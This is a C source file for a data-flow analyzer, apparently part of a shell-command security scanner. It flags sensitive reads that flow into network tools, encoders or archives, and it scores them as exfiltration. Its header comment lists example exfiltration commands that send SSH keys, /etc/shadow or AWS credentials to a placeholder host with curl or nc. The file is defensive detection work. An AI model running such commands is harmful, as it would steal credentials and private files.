/* Data flow: a sensitive read flowing into a network tool, an archive or
 * an encoder is exfiltration (or its staging), even when each half alone
 * is mild.
 *
 * Sources are commands on which a rule of a source analyzer fired
 * (settings.source_analyzers: credential access, file access, ...).
 * A flow exists when a sink command (settings.network / encoder / archive
 * program lists) receives the source's data:
 *   - later in the same pipeline:        cat ~/.ssh/id_rsa | base64 | curl -d @- x
 *   - as the same command:               curl -F f=@/etc/shadow x; tar czf k.tgz ~/.ssh
 *   - through a command substitution:    curl -d "$(cat ~/.aws/credentials)" x
 *   - through a file it wrote:           cat /etc/shadow > /tmp/s; nc h 9 < /tmp/s
 * Each sink class has its own score in settings; secrets reaching the
 * network are critical (a floor legitimacy cannot lower). */
#include <stdlib.h>
#include <string.h>

#include "engine/analyzers/builtin.h"
#include "engine/normalize/shell.h"

enum sink_kind { SINK_NETWORK, SINK_ENCODER, SINK_ARCHIVE, SINK_COUNT };

static const struct {
    const char *setting;
    const char *score_key;
    double      def_score;
    const char *id;
    const char *pattern;
} sink_info[SINK_COUNT] = {
    {"network", "score_network", 92, "dataflow.sensitive-to-network",
     "Sensitive data flows into a network tool (exfiltration)"},
    {"encoder", "score_encoder", 75, "dataflow.sensitive-to-encoder",
     "Sensitive data flows into an encoder (staging for exfiltration)"},
    {"archive", "score_archive", 75, "dataflow.sensitive-to-archive",
     "Sensitive data packed into an archive (staging for exfiltration)"},
};

typedef struct dataflow_state {
    const px_strlist *sources;             /* analyzer names */
    const px_strlist *sinks[SINK_COUNT];   /* program names/globs */
    double            score[SINK_COUNT];
} dataflow_state;

int px_an_dataflow_init(const px_engine *e, int self, void **state, char *err, size_t errlen)
{
    (void)err;
    (void)errlen;
    dataflow_state *s = calloc(1, sizeof(*s));
    if (s == NULL)
        return -1;
    s->sources = px_engine_setting(e, self, "source_analyzers");
    for (int k = 0; k < SINK_COUNT; k++) {
        s->sinks[k] = px_engine_setting(e, self, sink_info[k].setting);
        s->score[k] = px_engine_setting_num(e, self, sink_info[k].score_key, sink_info[k].def_score);
    }
    *state = s;
    return 0;
}

void px_an_dataflow_fini(void *state)
{
    free(state);
}

static int sink_of(const dataflow_state *s, const px_cmd *c)
{
    for (int k = 0; k < SINK_COUNT; k++) {
        const px_strlist *l = s->sinks[k];
        for (int i = 0; l != NULL && i < l->n; i++)
            if (px_glob_match(l->v[i], c->prog))
                return k;
    }
    return -1;
}

static int mentions_file(const px_cmd *sink, const px_cmd *src)
{
    for (int r = 0; r < src->nredirs; r++) {
        if (src->redirs[r].op != PX_REDIR_OUT && src->redirs[r].op != PX_REDIR_APPEND)
            continue;
        const char *f = src->redirs[r].target;
        if (f == NULL || f[0] == '\0' || strncmp(f, "/dev/", 5) == 0)
            continue;
        for (int i = 1; i < sink->argc; i++)
            if (strstr(sink->argv[i], f) != NULL)
                return 1;
        for (int i = 0; i < sink->nredirs; i++)
            if (sink->redirs[i].op == PX_REDIR_IN && strcmp(sink->redirs[i].target, f) == 0)
                return 1;
    }
    return 0;
}

static int flows(const px_actions *act, int src, int dst)
{
    const px_cmd *a = &act->cmds[src], *b = &act->cmds[dst];
    if (src == dst)
        return 1;
    if (a->pipeline == b->pipeline && a->pipe_pos < b->pipe_pos && a->depth == b->depth)
        return 1;
    /* Substitution output becomes the sink's argument. */
    for (int p = a->parent; p >= 0; p = act->cmds[p].parent)
        if (p == dst && (a->flags & PX_CMD_SUBST))
            return 1;
    if (src < dst && mentions_file(b, a))
        return 1;
    return 0;
}

void px_an_dataflow_run(const px_engine *e, int self, const void *state, px_analysis *an)
{
    const dataflow_state *s = state;
    if (s->sources == NULL)
        return;
    int best = -1;
    const px_actions *act = &an->actions;
    int nf = an->nfindings;
    for (int i = 0; i < nf; i++) {
        const px_finding *f = &an->findings[i];
        if (f->text < 0 || f->analyzer == self || !px_strlist_has(s->sources, px_engine_analyzer_name(e, f->analyzer)))
            continue;
        int src = act->texts[f->text].cmd;
        if (src < 0 || act->texts[f->text].kind != PX_TEXT_CMD)
            continue;
        for (int d = 0; d < act->ncmds; d++) {
            int k = sink_of(s, &act->cmds[d]);
            if (k < 0 || !flows(act, src, d))
                continue;
            if (best < 0 || s->score[k] > s->score[best])
                best = k;
        }
    }
    if (best >= 0)
        px_analysis_add(an, self, -1, -1, PX_TACTIC_EXFILTRATION, s->score[best], best == SINK_NETWORK,
                        sink_info[best].id,
                        sink_info[best].pattern);
}
